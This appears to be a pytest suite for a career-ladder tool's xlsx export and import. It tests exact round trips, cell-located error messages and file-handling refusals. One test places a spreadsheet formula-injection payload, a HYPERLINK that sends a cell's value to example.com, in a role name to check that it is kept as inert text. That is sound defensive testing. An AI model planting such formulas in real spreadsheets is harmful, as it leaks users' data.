"""`kb export --format xlsx` and `kb import`: a ladder to a workbook and back, exactly.

The round trip is judged as the issue asks, by `roles --format json` and `skills --format
json` before and after, and more strictly by the two files' models. Edited workbooks are
made with openpyxl, as a person would edit them in a spreadsheet; every problem is placed
at its cell as `ladder.xlsx:Roles!D7: …`.
"""

from __future__ import annotations

import io
import os
import shutil
import sys
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pexpect
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from conftest import SMALL_KB, run
from pmladder.errors import PmladderError
from pmladder.io.paths import bundled_kb_dir
from pmladder.knowledge.models import RolesFile, SkillsFile
from pmladder.knowledge.spreadsheet import (
    LAYOUT,
    descriptor_cell,
    export_workbook,
    import_workbook,
    parse_descriptor,
    parse_requirement,
    parse_years,
    read_ladder,
    years_cell,
)

PMLADDER = str(Path(sys.executable).with_name("pmladder"))


@pytest.fixture(autouse=True)
def in_tmp(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Files are named in messages relative to the working folder: `ladder.xlsx:Roles!D7`."""
    monkeypatch.chdir(tmp_path)


def export(kb: Path, target: Path) -> Path:
    result = run(["--kb", str(kb), "kb", "export", "--format", "xlsx", "-o", str(target)])
    assert result.exit_code == 0, result.stderr
    return target


def import_(workbook: Path, folder: Path, *extra: str) -> Any:
    return run(["kb", "import", str(workbook), str(folder), *extra])


def listing(kb: Path) -> tuple[str, str]:
    """What the issue compares: `roles --format json` and `skills --format json`."""
    roles = run(["--kb", str(kb), "roles", "--format", "json"])
    skills = run(["--kb", str(kb), "skills", "--format", "json"])
    assert roles.exit_code == 0 and skills.exit_code == 0, roles.stderr + skills.stderr
    return roles.stdout, skills.stdout


@pytest.mark.parametrize("kb", [bundled_kb_dir(), SMALL_KB], ids=["bundled", "small"])
def test_round_trip_is_exact(kb: Path, tmp_path: Path) -> None:
    workbook = export(kb, tmp_path / "ladder.xlsx")
    result = import_(workbook, tmp_path / "back")
    assert result.exit_code == 0, result.stderr
    assert "wrote" in result.stderr
    assert listing(tmp_path / "back") == listing(kb)
    assert read_ladder(tmp_path / "back") == read_ladder(kb)  # every field of both files, in file order
    for name in ("roles", "skills"):
        text = (tmp_path / "back" / f"{name}.yaml").read_text(encoding="utf-8")
        assert text.startswith(f"# yaml-language-server: $schema={name}.schema.json\n")
        assert (tmp_path / "back" / f"{name}.schema.json").is_file()
    assert run(["kb", "validate", str(tmp_path / "back")]).exit_code == 0
    again = export(tmp_path / "back", tmp_path / "again.xlsx")  # and a second lap changes nothing
    assert sheets(again) == sheets(workbook)


def sheets(path: Path) -> dict[str, list[tuple[Any, ...]]]:
    workbook = openpyxl.load_workbook(path)
    return {ws.title: [tuple(row) for row in ws.iter_rows(values_only=True)] for ws in workbook.worksheets}


def test_the_workbook_layout(tmp_path: Path) -> None:
    workbook = openpyxl.load_workbook(export(SMALL_KB, tmp_path / "ladder.xlsx"))
    assert workbook.sheetnames == list(LAYOUT)
    skills, roles = workbook["Skills"], workbook["Roles"]
    assert [c.value for c in skills[1]] == [
        "id",
        "name",
        "category",
        "definition",
        "level 1 (Aware)",
        "level 2 (Guided)",
        "level 3 (Independent)",
        "level 4 (Advanced)",
        "level 5 (Expert)",
    ]
    assert [c.value for c in roles[1]][:6] == ["id", "name", "track", "rank", "next roles", "aliases"]
    assert [c.value for c in roles[1]][6:] == ["writing", "shipping", "mentoring", "influence"]
    assert [c.value for c in roles[2]][6:] == ["2/3", "2/2", "1/1", "1/1"]  # level/weight
    for sheet in workbook.worksheets:
        assert sheet.freeze_panes in ("A2", "B2", "C2")
        assert sheet["A1"].comment is not None and sheet["A1"].comment.text  # what the sheet is for
    details = list(workbook["Role details"].iter_rows(values_only=True))
    assert ("chief", "years", "~10+") in details
    assert ("junior", "responsibilities", "Writes tickets") in details
    salaries = list(workbook["Salaries"].iter_rows(values_only=True))
    assert salaries[1][:4] == ("chief", "London", "United Kingdom", 100000)
    assert isinstance(salaries[1][3], int)  # numbers stay numbers
    checks = {str(v.sqref): v for v in roles.data_validations.dataValidation}
    assert any(v.formula1 and '"1,2,3,4,5,1/1' in v.formula1 for v in checks.values())


def test_export_needs_a_file_or_a_pipe(tmp_path: Path) -> None:
    piped = run(["--kb", str(SMALL_KB), "kb", "export", "-o", "-"])
    assert piped.exit_code == 0
    assert piped.stdout_bytes.startswith(b"PK")  # a zip: the workbook's bytes, untouched
    openpyxl.load_workbook(io.BytesIO(piped.stdout_bytes))
    env = {**os.environ, "NO_COLOR": "1", "PMLADDER_KB": str(SMALL_KB)}
    child = pexpect.spawn(PMLADDER, ["kb", "export"], env=env, encoding="utf-8", timeout=20, cwd=str(tmp_path))
    child.expect("a workbook is a binary file, not for the terminal; add -o ladder.xlsx")
    child.expect(pexpect.EOF)
    child.close()
    assert child.exitstatus == 2
    assert list(tmp_path.iterdir()) == []


def test_export_speaks_only_xlsx_and_keeps_an_existing_file(tmp_path: Path) -> None:
    for args in (["--format", "json"], ["-o", str(tmp_path / "ladder.csv")]):
        result = run(["kb", "export", *args])
        assert result.exit_code == 2
        assert "kb export writes a workbook (--format xlsx) only" in result.stderr
        assert "'pmladder roles --format json' and 'pmladder skills --format json'" in result.stderr
    target = tmp_path / "ladder.xlsx"
    target.write_bytes(b"edited by HR")
    result = run(["kb", "export", "-o", str(target)])
    assert result.exit_code == 2
    assert "already exists; pass --force to overwrite it" in result.stderr
    assert target.read_bytes() == b"edited by HR"
    assert run(["kb", "export", "-o", str(target), "--force"]).exit_code == 0
    assert target.read_bytes().startswith(b"PK")


def test_an_edited_workbook_imports_with_the_change(tmp_path: Path) -> None:
    path = export(SMALL_KB, tmp_path / "ladder.xlsx")
    workbook = openpyxl.load_workbook(path)
    roles = workbook["Roles"]
    roles["G3"] = "4/2"  # lead: writing from 3/2 to 4/2
    roles["J2"] = 2  # junior: influence typed as a number, the default weight... of the file's model
    workbook["Skills"].append(
        ["storytelling", "Storytelling", "people", "Tells stories.", "t1", "t2", "t3", "t4", "t5"]
    )
    roles.cell(row=1, column=roles.max_column + 1, value="storytelling")
    roles.cell(row=4, column=roles.max_column, value="3/1")
    workbook["Projects"].append(["storytelling", "Tell one", "A talk", 2, 4])
    workbook["Projects"].append(["storytelling", "Tell two", "A longer talk", 3, 8])
    workbook["Learning"].append(["storytelling", "practice", "Tell stories."])
    workbook["Skill details"].append(["storytelling", "sources", "Test"])
    workbook.save(path)
    result = import_(path, tmp_path / "back")
    assert result.exit_code == 2  # the file's model needs a weight: the number alone is a problem
    assert result.stderr.splitlines() == ["ladder.xlsx:Roles!J2: weight is missing; it is required"]
    roles["J2"] = "2/1"
    workbook.save(path)
    result = import_(path, tmp_path / "back")
    assert result.exit_code == 0, result.stderr
    roles_file, skills_file = read_ladder(tmp_path / "back")
    lead = next(r for r in roles_file.roles if r.id == "lead")
    assert next(q for q in lead.requirements if q.skill == "writing").level == 4
    chief = next(r for r in roles_file.roles if r.id == "chief")
    assert (chief.requirements[-1].skill, chief.requirements[-1].level) == ("storytelling", 3)
    assert skills_file.skills[-1].id == "storytelling"
    assert skills_file.skills[-1].levels[2] == "t3"
    shown = run(["--kb", str(tmp_path / "back"), "skills", "show", "storytelling"])
    assert shown.exit_code == 0 and "Tells stories." in shown.stdout


def test_every_problem_at_its_cell_at_once_and_nothing_written(tmp_path: Path) -> None:
    path = export(SMALL_KB, tmp_path / "ladder.xlsx")
    workbook = openpyxl.load_workbook(path)
    roles = workbook["Roles"]
    roles.cell(row=1, column=11, value="stakeholdr")  # an unknown skill column
    roles["K2"] = "3/2"
    roles["G3"] = "9/2"  # a level of 9
    roles["A4"] = None  # a missing id
    roles["H2"] = "2/0"  # a weight of 0
    roles.append(["junior", "Again", "ic", 1, None, None, "1/1"])  # a duplicate id
    roles["B3"] = None  # an empty required cell
    roles["I3"] = "lots"  # not a level
    workbook["Skills"]["B3"] = '=HYPERLINK("http://example.com","x")'  # a real formula, typed in
    workbook.save(path)
    folder = tmp_path / "out"
    result = import_(path, folder)
    assert result.exit_code == 2
    assert result.stderr.splitlines() == [
        "ladder.xlsx:Skills!B3: holds a formula; pmladder reads values only: type the value itself",
        "ladder.xlsx:Roles!K1: column 'stakeholdr' is not a skill: unknown skill 'stakeholdr' (choose one of: writing, shipping, mentoring, influence)",
        "ladder.xlsx:Roles!H2: weight: expected a whole number from 1 to 3, got the number 0",
        "ladder.xlsx:Roles!B3: name is empty; it is required",
        "ladder.xlsx:Roles!G3: level: expected a whole number from 1 to 5, got the number 9",
        "ladder.xlsx:Roles!I3: expected a level like 3, or level/weight like 3/2 (add 'delegated' after it if so), got the text 'lots'",
        "ladder.xlsx:Roles!A4: id is empty; it is required",
        "ladder.xlsx:Roles!A5: duplicate role id 'junior' (first at row 2)",
        "ladder.xlsx:'Role details'!A14: unknown role 'chief' (choose one of: junior, lead) (and 8 more like it)",
    ]
    assert result.stdout == ""
    assert not folder.exists()


def test_problems_of_sheets_columns_and_values(tmp_path: Path) -> None:
    path = export(SMALL_KB, tmp_path / "ladder.xlsx")
    workbook = openpyxl.load_workbook(path)
    workbook.create_sheet("Role detail")
    workbook["Projects"]["E1"] = "effort"
    workbook["Skills"]["E3"] = None  # a descriptor left empty
    details = workbook["Role details"]
    years = [row[2] for row in details.iter_rows(min_row=2) if row[1].value == "years"]
    years[0].value = "3-5"  # without a tilde: exact, not approximate
    years[1].value = "three to five"
    workbook["Roles"]["D2"] = "first"
    workbook.save(path)
    result = import_(path, tmp_path / "out")
    assert result.exit_code == 2
    lines = result.stderr.splitlines()
    assert "ladder.xlsx:Skills!E3: must not be empty" in lines
    assert (
        "ladder.xlsx:Projects!E1: unknown column 'effort' (did you mean 'effort hours'?); this sheet's columns are: "
        "skill, title, deliverable, builds to, effort hours, setting, origin" in lines
    )
    assert "ladder.xlsx:Roles!D2: expected a whole number, got the text 'first'" in lines
    assert "ladder.xlsx:Projects!A1: the sheet has no 'effort hours' column, and every row needs one" in lines
    assert (
        f"ladder.xlsx:'Role details'!{years[1].coordinate}: expected years like ~2-4, 3-5 or ~15+ (~ for approximate), got the text 'three to five'"
        in lines
    )
    assert lines[-1].startswith(
        "ladder.xlsx:'Role detail'!A1: unknown sheet 'Role detail' (did you mean 'Role details'?)"
    )


def test_a_formula_looking_name_stays_text(tmp_path: Path) -> None:
    kb = tmp_path / "kb"
    shutil.copytree(SMALL_KB, kb)
    name = '=HYPERLINK("http://example.com/?leak="&A1,"click")'
    roles = kb / "roles.yaml"
    roles.write_text(roles.read_text(encoding="utf-8").replace("name: Junior PM", f"name: '{name}'"), encoding="utf-8")
    skills = kb / "skills.yaml"
    skills.write_text(
        skills.read_text(encoding="utf-8").replace("Writes clear specs.", "'+1 writes -specs @all'"), encoding="utf-8"
    )
    path = export(kb, tmp_path / "ladder.xlsx")
    with zipfile.ZipFile(path) as archive:
        xml = b"".join(archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/"))
    assert b"<f>" not in xml and b"<f " not in xml  # not one formula in the workbook
    cell = openpyxl.load_workbook(path)["Roles"]["B2"]
    assert (cell.value, cell.data_type, cell.quotePrefix, cell.number_format) == (name, "s", True, "@")
    assert import_(path, tmp_path / "back").exit_code == 0
    back_roles, back_skills = read_ladder(tmp_path / "back")
    assert back_roles.roles[0].name == name
    assert back_skills.skills[0].definition == "+1 writes -specs @all"


def test_import_refuses_a_folder_with_files_unless_forced(tmp_path: Path) -> None:
    path = export(SMALL_KB, tmp_path / "ladder.xlsx")
    folder = tmp_path / "ours"
    folder.mkdir()
    (folder / "notes.txt").write_text("mine", encoding="utf-8")
    result = import_(path, folder)
    assert result.exit_code == 2
    assert result.stderr.strip().endswith("the folder is not empty; pass --force to write the ladder into it")
    assert sorted(p.name for p in folder.iterdir()) == ["notes.txt"]
    assert import_(path, folder, "--force").exit_code == 0
    assert (folder / "roles.yaml").is_file() and (folder / "notes.txt").read_text(encoding="utf-8") == "mine"


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"id,name\n", "not an Excel workbook (.xlsx)"),
        (
            b"\xd0\xcf\x11\xe0" + b"\0" * 100,
            "not an Excel workbook (.xlsx) (it looks like an old .xls file: save it as .xlsx)",
        ),
        (b"PK\x03\x04broken", "cannot read this workbook: the .xlsx file is damaged or not a spreadsheet"),
    ],
    ids=["csv", "xls", "damaged"],
)
def test_not_a_workbook(tmp_path: Path, content: bytes, message: str) -> None:
    path = tmp_path / "ladder.xlsx"
    path.write_bytes(content)
    result = import_(path, tmp_path / "out")
    assert result.exit_code == 2
    assert result.stderr.splitlines() == [f"ladder.xlsx: {message}"]
    assert not (tmp_path / "out").exists()


def test_a_zip_that_is_not_a_workbook(tmp_path: Path) -> None:
    path = tmp_path / "ladder.xlsx"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("hello.txt", "hi")
    with pytest.raises(PmladderError, match="a zip file without a workbook in it"):
        import_workbook(path.read_bytes(), "ladder.xlsx")


def test_a_missing_sheet(tmp_path: Path) -> None:
    path = export(SMALL_KB, tmp_path / "ladder.xlsx")
    workbook = openpyxl.load_workbook(path)
    del workbook["Scale"]
    workbook.save(path)
    with pytest.raises(PmladderError) as caught:
        import_workbook(path.read_bytes(), "ladder.xlsx")
    assert [str(p) for p in caught.value.problems] == ["ladder.xlsx: the workbook has no 'Scale' sheet"]


def test_a_date_where_a_level_was_typed(tmp_path: Path) -> None:
    import datetime as dt

    path = export(SMALL_KB, tmp_path / "ladder.xlsx")
    workbook = openpyxl.load_workbook(path)
    workbook["Roles"]["G2"] = dt.datetime(2026, 3, 2)  # what 3/2 becomes when typed into a General cell
    workbook.save(path)
    with pytest.raises(PmladderError) as caught:
        import_workbook(path.read_bytes(), "ladder.xlsx")
    assert [str(p) for p in caught.value.problems] == [
        "ladder.xlsx:Roles!G2: the spreadsheet turned this into a date or time; format the cell as Text and type it again"
    ]


def test_cells_of_words() -> None:
    assert descriptor_cell("Does it alone.") == "Does it alone."
    assert descriptor_cell(["Writes specs", "Reviews specs"]) == "• Writes specs\n• Reviews specs"
    assert parse_descriptor("• Writes specs\n• Reviews specs") == [" Writes specs", " Reviews specs"]
    assert parse_descriptor("• one\nand more\n• two") == [" one\nand more", " two"]
    assert parse_descriptor("A paragraph\n• with a bullet inside") == "A paragraph\n• with a bullet inside"
    assert parse_years("~2-4") == {"min": 2, "max": 4}
    assert parse_years("3 - 5") == {"min": 3, "max": 5, "approximate": False}
    assert parse_years("~15+") == {"min": 15}
    assert parse_years("3") is None
    assert [years_cell(y) for y in ({"min": 2, "max": 4}, {"min": 15, "approximate": False})] == ["~2-4", "15+"]
    assert parse_requirement("3/2 delegated") == (3, 2, True)
    assert parse_requirement(" 4 ") == (4, None, False)
    assert parse_requirement(3.0) == (3, None, False)
    assert parse_requirement("3.5") is None


def test_a_paragraph_that_would_read_back_as_a_list_is_refused() -> None:
    roles, skills = read_ladder(SMALL_KB)
    first = skills.skills[0].model_copy(update={"levels": ("• looks like a list", "b", "c", "d", "e")})
    broken = skills.model_copy(update={"skills": [first, *skills.skills[1:]]})
    with pytest.raises(PmladderError) as caught:
        export_workbook(roles, broken)
    assert [str(p) for p in caught.value.problems] == [
        "cannot export Skills, the row of 'writing', column 'level 1 (Aware)': a paragraph that starts with "
        "'•' would read back as a list of criteria; start it otherwise"
    ]


# --- random ladders -------------------------------------------------------------------------

# Text a ladder may hold: printable characters in any script, spaces and line breaks; with a
# formula's first characters and a spreadsheet's special words among them.
_CHARS = st.characters(blacklist_categories=("Cc", "Cs", "Co", "Cn", "Cf", "Zl", "Zp", "Zs")) | st.sampled_from(
    " \n=+-@/~•"
)
TEXT = st.text(_CHARS, min_size=1, max_size=24).filter(lambda t: bool(t.strip()))
WORD = TEXT | st.sampled_from(["=1+1", "TRUE", "3/2", "0012", "1e5", "-x", "@here", "_x0041_", "#N/A"])
LINE = WORD.filter(lambda t: not t.lstrip().startswith("•"))  # a descriptor: see the refused case above


@st.composite
def ladders(draw: st.DrawFn) -> tuple[RolesFile, SkillsFile]:
    """A small valid ladder: 1-3 skills in 1-2 categories, 1-3 roles, every optional part now and then."""
    n_skills = draw(st.integers(1, 3))
    categories = [
        {"id": f"c{i}", "name": draw(WORD), "description": draw(WORD)} for i in range(draw(st.integers(1, 2)))
    ]
    skills = []
    for i in range(n_skills):
        levels = draw(st.lists(LINE.map(str.strip), min_size=5, max_size=5, unique=True))
        project = st.fixed_dictionaries(
            {"title": WORD, "deliverable": WORD, "builds_to": st.integers(1, 5), "effort_hours": st.integers(1, 400)},
            optional={"setting": st.sampled_from(["work", "outside"]), "origin": WORD},
        )
        skills.append(
            {
                "id": f"skill-{i}",
                "name": draw(WORD),
                "category": draw(st.sampled_from(categories))["id"],
                "definition": draw(WORD),
                "levels": levels,
                "projects": draw(st.lists(project, min_size=2, max_size=3)),
                "learning": [
                    {"format": draw(st.sampled_from(["course", "reading", "practice"])), "suggestion": draw(WORD)}
                ],
                "sources": draw(st.lists(WORD, min_size=1, max_size=2)),
                "notes": draw(st.lists(WORD, max_size=2)),
            }
        )
    n_roles = draw(st.integers(1, 3))
    roles = []
    for i in range(n_roles):
        wanted = (
            list(range(n_skills)) if i == 0 else draw(st.lists(st.integers(0, n_skills - 1), min_size=1, unique=True))
        )
        requirements = []
        for j in sorted(wanted):
            requirement: dict[str, Any] = {
                "skill": f"skill-{j}",
                "level": draw(st.integers(1, 5)),
                "weight": draw(st.integers(1, 3)),
            }
            if draw(st.booleans()):
                requirement["delegated"] = True
            requirements.append(requirement)
        low = draw(st.integers(0, 20))
        years: dict[str, Any] = {"min": low}
        if draw(st.booleans()):
            years["max"] = low + draw(st.integers(0, 10))
        if draw(st.booleans()):
            years["approximate"] = False
        role: dict[str, Any] = {
            "id": f"role-{i}",
            "name": draw(WORD),
            "track": draw(st.sampled_from(["foundation", "ic", "manager"])),
            "rank": draw(st.integers(1, 20)),
            "summary": draw(WORD),
            "years": years,
            "scope": draw(WORD),
            "responsibilities": draw(st.lists(WORD, min_size=1, max_size=2)),
            "day_to_day": draw(st.lists(WORD, min_size=1, max_size=2)),
            "challenges": draw(st.lists(WORD, min_size=1, max_size=2)),
            "next_roles": [f"role-{i + 1}"] if i + 1 < n_roles and draw(st.booleans()) else [],
            "requirements": requirements,
        }
        if draw(st.booleans()):
            role["bar"] = draw(WORD)
            role["aliases"] = [f"alias-{i}"]
            role["qualities"] = draw(st.lists(WORD, min_size=1, max_size=2))
            role["projects"] = [{"title": draw(WORD), "deliverable": draw(WORD), "skills": ["skill-0"]}]
            role["related_titles"] = [{"role": "role-0", "relation": draw(WORD)}]
        if draw(st.booleans()):
            figure = {
                "city": draw(WORD),
                "country": draw(WORD),
                "median": draw(st.integers(1, 10**9)),
                "currency": "EUR",
            }
            role["salaries"] = {"source": draw(WORD), "estimate": draw(st.booleans()), "figures": [figure]}
        roles.append(role)
    about = {"about": draw(WORD)} if draw(st.booleans()) else {}
    scale = [{"level": n, "label": draw(WORD), "description": draw(WORD)} for n in range(1, 6)]
    return (
        RolesFile.model_validate({"version": draw(WORD), **about, "roles": roles}),
        SkillsFile.model_validate({"version": draw(WORD), "scale": scale, "categories": categories, "skills": skills}),
    )


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(ladder=ladders())
def test_random_ladders_round_trip(ladder: tuple[RolesFile, SkillsFile]) -> None:
    roles, skills = ladder
    imported = import_workbook(export_workbook(roles, skills), "ladder.xlsx")
    assert (imported.roles, imported.skills) == (roles, skills)
